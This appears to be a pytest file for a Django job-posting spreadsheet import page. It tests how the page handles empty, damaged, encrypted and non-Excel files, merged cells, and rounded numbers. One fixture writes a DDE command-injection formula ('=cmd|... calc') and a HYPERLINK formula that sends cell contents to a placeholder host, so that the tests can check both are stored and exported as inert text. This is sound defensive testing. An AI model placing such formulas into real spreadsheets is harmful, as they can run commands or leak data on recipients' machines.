"""Files that offices really send, through the import page: a plain sentence, and nothing is taken over."""

import io

import pytest
import xlsxwriter

from jobs.models import ImportBatch, Posting
from laborinfo.common.excel import read_table
from laborinfo.common.excel.guards import OLE_MAGIC
from tests.jobs.factories import GOOD, HEADINGS, sheet

pytestmark = pytest.mark.django_db
PAGE = "/jobs/imports/"
WHOLE = sheet(GOOD).getvalue()


def workbook(draw, **options) -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, options) as book:
        draw(book, book.add_worksheet())
    return buffer.getvalue()


def merged(book, page) -> None:
    """A title over all columns, and one employer over three rows: only the first of them holds the name."""
    shape = book.add_format({"valign": "vcenter"})  # without one the covered cells would keep what was in them
    page.merge_range(0, 0, 0, len(HEADINGS) - 1, "丹寨县岗位台账", shape)
    page.write_row(1, 0, HEADINGS)
    for row in range(2, 5):
        page.write_row(row, 0, [f"缝纫工{row}", *GOOD[1:]])
    page.merge_range(2, 1, 4, 1, GOOD[1], shape)


def laden(book, page) -> None:
    """Formulas that would fetch, run and show something in somebody else's Excel."""
    page.write_row(0, 0, HEADINGS)
    page.write_row(1, 0, GOOD)
    page.write_formula(1, 0, '=HYPERLINK("http://example.org/?"&A1,"x")', None, "=cmd|' /C calc'!A0")


@pytest.fixture
def county(cast, client_of):
    return client_of(cast.county)


def upload(county, data: bytes, name: str = "岗位.xlsx"):
    file = io.BytesIO(data)
    file.name = name
    return county.post(PAGE, {"file": file, "source": "OTHER"}, headers={"Accept-Language": "en"})


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"", "empty"),
        (b"  \r\n\r\n", "empty"),
        (WHOLE[: len(WHOLE) // 2], "damaged"),
        (WHOLE[:-200] + bytes(200), "damaged"),
        (OLE_MAGIC + "EncryptedPackage".encode("utf-16-le") + bytes(4096), "password"),
        (b"\x81\x00\xff" * 500, "neither Excel nor readable text"),
        ("通知：请各村尽快上报。".encode(), "not an Excel"),
        (b"%PDF-1.7\n" + bytes(range(256)) * 10, "neither Excel nor readable text"),
        (workbook(lambda book, page: page.write_row(0, 0, HEADINGS)), "no rows"),
    ],
    ids=["nothing", "blank", "half", "broken end", "password", "binary", "prose", "pdf", "headings only"],
)
def test_a_file_that_cannot_be_read_is_explained_on_the_form(county, data, sentence):
    answer = upload(county, data)
    assert answer.status_code == 200
    assert sentence in str(answer.context["form"].errors)
    assert not ImportBatch.objects.exists()


def test_merged_cells_are_read_and_the_rows_without_their_own_value_are_named(county):
    answer = upload(county, workbook(merged))
    batch = ImportBatch.objects.get()
    assert answer.status_code == 302
    assert (batch.rows, batch.ok, batch.failed) == (3, 1, 2)
    assert [(row, field) for row, field, _value, _reason in batch.report["errors"]] == [
        (4, "employer"),
        (5, "employer"),
    ]


def test_formulas_are_taken_as_text_and_leave_the_system_as_text(county):
    upload(county, workbook(laden))
    batch = ImportBatch.objects.get()
    county.post(f"{PAGE}{batch.pk}/confirm/")
    assert Posting.objects.get().title == "=cmd|' /C calc'!A0"
    exported = county.get("/jobs/", {"export": "xlsx"})
    assert exported.status_code == 200
    cells = [cell for row in read_table(io.BytesIO(b"".join(exported))).rows for cell in row.cells]
    assert "'=cmd|' /C calc'!A0" in cells


def test_numbers_that_excel_rounded_are_refused_row_by_row(county):
    rounded = [*GOOD[:7], "1.38855E+15", GOOD[8]]
    upload(county, sheet(rounded, ["焊工", *GOOD[1:]]).getvalue())
    batch = ImportBatch.objects.get()
    assert (batch.ok, batch.failed) == (1, 1)
